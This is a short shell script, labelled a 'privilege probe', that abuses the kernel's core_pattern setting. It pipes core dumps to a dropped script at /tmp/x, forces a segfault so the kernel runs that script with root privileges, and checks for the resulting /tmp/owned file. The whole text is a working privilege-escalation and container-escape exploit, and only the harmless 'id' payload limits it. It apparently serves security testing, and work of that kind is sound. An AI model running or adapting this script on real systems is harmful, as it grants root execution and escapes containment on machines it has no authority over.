# class: privilege probe; possible: low medium
echo '|/tmp/x %P' > /proc/sys/kernel/core_pattern
printf '#!/bin/sh\nid > /tmp/owned\n' > /tmp/x; chmod +x /tmp/x
sh -c 'kill -SEGV $$'
ls -l /tmp/owned
exit 0
